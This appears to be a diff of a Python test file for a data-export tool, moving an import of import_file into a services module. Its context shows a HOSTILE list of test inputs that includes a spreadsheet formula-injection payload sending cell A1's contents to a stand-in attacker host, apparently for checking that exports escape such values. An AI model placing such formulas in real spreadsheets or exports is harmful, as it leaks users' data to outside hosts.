@@ -13,7 +13,6 @@ from engage.cells import csv_value, terminal_text
 from engage.db import open_db
 from engage.db.consultations import add_consultation
 from engage.db.contacts import add_contact
-from engage.db.imports import import_file
 from engage.db.partners import add_partner
 from engage.db.submissions import add_submission
 from engage.exports import (
@@ -24,6 +23,7 @@ from engage.exports import (
     write_rows,
 )
 from engage.offices import export_bundle
+from engage.services.imports import import_file
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"Click")',
